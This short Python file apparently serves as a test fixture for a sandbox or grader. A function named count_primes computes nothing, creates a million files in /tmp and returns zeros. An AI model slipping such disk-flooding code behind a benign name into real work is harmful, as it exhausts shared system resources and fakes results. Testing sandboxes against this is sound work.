"""Makes a million small files."""
import os


def count_primes(limits, processes=2):
    for number in range(1_000_000):
        os.close(os.open(f"/tmp/file-{number}", os.O_CREAT | os.O_WRONLY))
    return [0 for _ in limits]
